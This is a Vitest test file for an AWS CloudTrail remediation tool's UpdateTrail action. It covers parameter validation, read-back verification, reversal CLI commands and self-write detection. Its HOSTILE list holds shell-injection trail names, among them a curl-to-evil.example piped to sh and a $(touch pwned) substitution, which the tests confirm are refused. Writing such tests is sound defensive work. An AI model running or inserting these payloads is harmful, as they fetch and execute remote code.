import { CloudTrailClient, GetTrailCommand, UpdateTrailCommand } from '@aws-sdk/client-cloudtrail';
import { mockClient } from 'aws-sdk-client-mock';
import * as v from 'valibot';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { stepOf, type SelfSignature, type Step } from '../../../shared/actions/action.js';
import { updateTrail, updateTrailSignature, type UpdateTrailParams, type UpdateTrailPrevious } from '../../../shared/actions/cloudtrail-update-trail.js';
import { reversalCommands, reversalLines, reversalOf } from '../../../shared/actions/reversal.js';
import { SETTINGS } from '../../../shared/cloudtrail/trail.js';
import { TrailSettingInputs } from '../../../shared/cloudtrail/trail-actions.js';
import { AwsCallError } from '../../../shared/errors.js';
import { DONE_ACTIONS, liveRecords } from '../../helpers/records.js';
import { loadSample, sampleConfig } from '../../helpers/samples.js';

const cloudTrail = mockClient(CloudTrailClient);
const ARN = 'arn:aws:cloudtrail:us-east-1:111122223333:trail/example-audit-trail';
const RESOURCE = { type: 'AWS::CloudTrail::Trail', id: ARN, name: 'example-audit-trail', region: 'us-east-1' };
const HOSTILE = ['x;curl${IFS}-s${IFS}evil.example|sh;#', 'arn:aws:cloudtrail:us-east-1:111122223333:trail/$(touch${IFS}pwned)', "it's-a-trail", ''];
const HEALTHY = {
  Name: 'example-audit-trail',
  TrailARN: ARN,
  HomeRegion: 'us-east-1',
  LogFileValidationEnabled: true,
  IsMultiRegionTrail: true,
  IncludeGlobalServiceEvents: true,
};

const clients = { cloudTrailIn: (region: string) => new CloudTrailClient({ region, credentials: { accessKeyId: 'a', secretAccessKey: 'b' } }) };
const regionsOf = (command: typeof UpdateTrailCommand | typeof GetTrailCommand) =>
  Promise.all(cloudTrail.commandCalls(command).map((call) => (call.thisValue as CloudTrailClient).config.region()));

/** A validated step, acting in `region` unless the resource names its home Region. */
const stepFor = (params: unknown, previous?: unknown, region = 'eu-west-1') =>
  stepOf(updateTrail, { api: updateTrail.api, resource: RESOURCE, params, ...(previous === undefined ? {} : { previous }) }, region) as Step<
    UpdateTrailParams,
    UpdateTrailPrevious
  >;

beforeEach(() => {
  cloudTrail.reset();
  cloudTrail.rejects(new Error('unexpected CloudTrail call'));
});
afterEach(() => cloudTrail.reset());

describe('CloudTrail.UpdateTrail params', () => {
  it('takes exactly the settings SETTINGS restores, as booleans', () => {
    const inputs = Object.values(SETTINGS).flatMap((s) => (s.restore ? [s.restore.input] : []));
    expect(Object.keys(TrailSettingInputs.entries)).toEqual(inputs);
    expect(stepFor({ Name: ARN, EnableLogFileValidation: true, IsMultiRegionTrail: false }).params).toEqual({
      Name: ARN,
      EnableLogFileValidation: true,
      IsMultiRegionTrail: false,
    });
  });

  it.each(HOSTILE)('refuses the hostile name %j before any call, as invalid', (name) => {
    expect(() => stepFor({ Name: name, EnableLogFileValidation: true })).toThrow(expect.objectContaining({ kind: 'invalid', code: 'InvalidActionParams' }));
    expect(() => stepFor({ Name: name, EnableLogFileValidation: true })).toThrow(AwsCallError);
    expect(cloudTrail.calls()).toHaveLength(0);
  });

  it.each([
    ['a field trailguard never writes (a KMS key)', { Name: ARN, EnableLogFileValidation: true, KmsKeyId: 'alias/x' }],
    ['a setting as the string "true"', { Name: ARN, EnableLogFileValidation: 'true' }],
    ['no setting at all', { Name: ARN }],
    ['no name', { EnableLogFileValidation: true }],
  ])('refuses %s', (_, params) => {
    expect(v.safeParse(updateTrail.params, params).success).toBe(false);
  });

  it('treats a previous state with another field as not read', () => {
    expect(stepFor({ Name: ARN, EnableLogFileValidation: true }, { EnableLogFileValidation: false, S3BucketName: 'b' }).previous).toBeUndefined();
  });
});

describe('CloudTrail.UpdateTrail perform and verify', () => {
  it("updates the trail in its home Region (the resource's), not the event's, and reads each setting back there", async () => {
    cloudTrail.on(UpdateTrailCommand).resolves({});
    cloudTrail.on(GetTrailCommand).resolves({ Trail: HEALTHY });
    const step = stepFor({ Name: ARN, IsMultiRegionTrail: true, IncludeGlobalServiceEvents: true }, undefined, 'eu-west-1');

    await updateTrail.perform(step, clients);
    const verification = await updateTrail.verify(step, clients);

    expect(cloudTrail.commandCalls(UpdateTrailCommand).map((c) => c.args[0].input)).toEqual([
      { Name: ARN, IsMultiRegionTrail: true, IncludeGlobalServiceEvents: true },
    ]);
    expect(await regionsOf(UpdateTrailCommand)).toEqual(['us-east-1']);
    expect(cloudTrail.commandCalls(GetTrailCommand).map((c) => c.args[0].input)).toEqual([{ Name: ARN }]);
    expect(await regionsOf(GetTrailCommand)).toEqual(['us-east-1']);
    expect(verification).toEqual({ ok: true, detail: 'GetTrail reads IsMultiRegionTrail: true, IncludeGlobalServiceEvents: true' });
  });

  it('does not verify a setting that still reads off', async () => {
    cloudTrail.on(GetTrailCommand).resolves({ Trail: { ...HEALTHY, LogFileValidationEnabled: false } });
    expect(await updateTrail.verify(stepFor({ Name: ARN, EnableLogFileValidation: true }), clients)).toEqual({
      ok: false,
      detail: 'GetTrail still reads LogFileValidationEnabled off',
    });
  });

  it('verifies an undo against the values it wants (false), not against true', async () => {
    const undo = stepFor({ Name: ARN, EnableLogFileValidation: false, IsMultiRegionTrail: false });
    cloudTrail
      .on(GetTrailCommand)
      .resolvesOnce({ Trail: { ...HEALTHY, LogFileValidationEnabled: false, IsMultiRegionTrail: false } })
      .resolves({ Trail: { ...HEALTHY, IsMultiRegionTrail: false } });

    expect(await updateTrail.verify(undo, clients)).toEqual({ ok: true, detail: 'GetTrail reads LogFileValidationEnabled: false, IsMultiRegionTrail: false' });
    expect(await updateTrail.verify(undo, clients)).toEqual({ ok: false, detail: 'GetTrail still reads LogFileValidationEnabled on' });
  });

  it('does not verify when GetTrail answers without a trail', async () => {
    cloudTrail.on(GetTrailCommand).resolves({});
    expect(await updateTrail.verify(stepFor({ Name: ARN, EnableLogFileValidation: false }), clients)).toMatchObject({ ok: false });
  });

  it('classifies a trail gone on read-back, naming the API', async () => {
    cloudTrail.on(GetTrailCommand).rejects(Object.assign(new Error('gone'), { name: 'TrailNotFoundException', $metadata: { httpStatusCode: 400 } }));
    await expect(updateTrail.verify(stepFor({ Name: ARN, EnableLogFileValidation: true }), clients)).rejects.toMatchObject({
      kind: 'gone',
      api: 'CloudTrail.GetTrail',
    });
  });
});

describe('CloudTrail.UpdateTrail reverse and command', () => {
  it('reverses to the settings read before, replacing the ones it set', () => {
    const reversal = updateTrail.reverse(
      stepFor({ Name: ARN, EnableLogFileValidation: true, IsMultiRegionTrail: true }, { EnableLogFileValidation: false, IsMultiRegionTrail: false }),
    );

    expect(reversal).toMatchObject({
      kind: 'steps',
      steps: [
        {
          type: updateTrail,
          action: {
            api: 'CloudTrail.UpdateTrail',
            resource: RESOURCE,
            params: { Name: ARN, EnableLogFileValidation: false, IsMultiRegionTrail: false },
            previous: { EnableLogFileValidation: true, IsMultiRegionTrail: true },
          },
        },
      ],
    });
    expect(reversalCommands(reversal)).toEqual([
      `aws cloudtrail update-trail --region 'us-east-1' --name '${ARN}' --no-enable-log-file-validation --no-is-multi-region-trail`,
    ]);
  });

  it('has nothing to put back when the earlier settings were not read', () => {
    const why = 'the record has no earlier trail settings (not read): nothing known to put back';
    expect(updateTrail.reverse(stepFor({ Name: ARN, EnableLogFileValidation: true }))).toEqual({ kind: 'none', why });
    expect(updateTrail.reverse(stepFor({ Name: ARN, EnableLogFileValidation: true }, {}))).toEqual({ kind: 'none', why });
  });

  it("gives the same reverse command from a log record as report and undo print (the home Region, not the record's)", () => {
    const live = liveRecords().trail;
    const reversal = reversalOf([updateTrail], { ...live, region: 'ap-southeast-2' }, live.actions[0]!);
    expect(reversalCommands(reversal)).toEqual([
      "aws cloudtrail update-trail --region 'eu-west-1' --name 'arn:aws:cloudtrail:eu-west-1:111122223333:trail/org-trail' --no-enable-log-file-validation --no-is-multi-region-trail",
    ]);
    expect(reversalLines([updateTrail], live)).toEqual([`To reverse: ${reversalCommands(reversal)[0]}`, expect.stringContaining('Pasted as is')]);
    expect(DONE_ACTIONS.updateTrail.previous).toEqual({ EnableLogFileValidation: false, IsMultiRegionTrail: false });
  });

  it('gives each setting as a flag, turned on or off, in SETTINGS order', () => {
    const step = stepFor({ Name: 'example-audit-trail', IncludeGlobalServiceEvents: true, EnableLogFileValidation: false, IsMultiRegionTrail: true });
    expect(updateTrail.command(step)).toBe(
      "aws cloudtrail update-trail --region 'us-east-1' --name 'example-audit-trail' --no-enable-log-file-validation --is-multi-region-trail --include-global-service-events",
    );
    expect(updateTrail.describe(step)).toBe(
      'set EnableLogFileValidation=false, IsMultiRegionTrail=true, IncludeGlobalServiceEvents=true on trail example-audit-trail',
    );
  });

  it.each(HOSTILE)('gives no command for the hostile name %j even when handed a step that skipped validation', (name) => {
    const command = updateTrail.command({
      api: updateTrail.api,
      resource: RESOURCE,
      params: { Name: name, EnableLogFileValidation: true },
      previous: undefined,
      region: 'us-east-1',
    });
    expect(command).toMatch(/^no command: the (trail name in the event is not a valid trail name|event names no trail name)$/);
  });

  it('needs cloudtrail:UpdateTrail and retriggers the rule (an undo turns settings off)', () => {
    expect(updateTrail).toMatchObject({
      api: 'CloudTrail.UpdateTrail',
      iam: 'cloudtrail:UpdateTrail',
      clients: ['cloudTrailIn'],
      retriggers: true,
      signature: updateTrailSignature,
    });
    expect(updateTrail.api).toBe(updateTrailSignature.api); // a literal in the action, for tree-shaking
  });
});

describe('CloudTrail.UpdateTrail signature', () => {
  const caller = { enforces: false, config: sampleConfig() };
  const signature: SelfSignature = updateTrailSignature;
  const own = (request: unknown) => signature.isOwnWrite(request, caller);

  it("is its own restore: the recorded request of trailguard's UpdateTrail", () => {
    const sample = loadSample('trail-logging', 'ignored.update-trail-restore-by-remediator') as { detail: { requestParameters: unknown } };
    expect(updateTrailSignature).toMatchObject({ api: 'CloudTrail.UpdateTrail', eventName: 'UpdateTrail' });
    expect(own(sample.detail.requestParameters)).toBe(true);
    expect(own({ name: ARN, enableLogFileValidation: true, isMultiRegionTrail: true, includeGlobalServiceEvents: true })).toBe(true);
  });

  it.each([
    ['a setting turned off', { name: ARN, enableLogFileValidation: false }],
    ['a setting as the string "true"', { name: ARN, isMultiRegionTrail: 'true' }],
    ['another field (a KMS key)', { name: ARN, enableLogFileValidation: true, kmsKeyId: '' }],
    ['only the name', { name: ARN }],
    ['no name', { enableLogFileValidation: true }],
    ["the SDK spelling, not CloudTrail's record", { Name: ARN, EnableLogFileValidation: true }],
    ['not an object', [ARN]],
    ['null', null],
  ])('is not its own with %s', (_, request) => {
    expect(own(request)).toBe(false);
  });
});
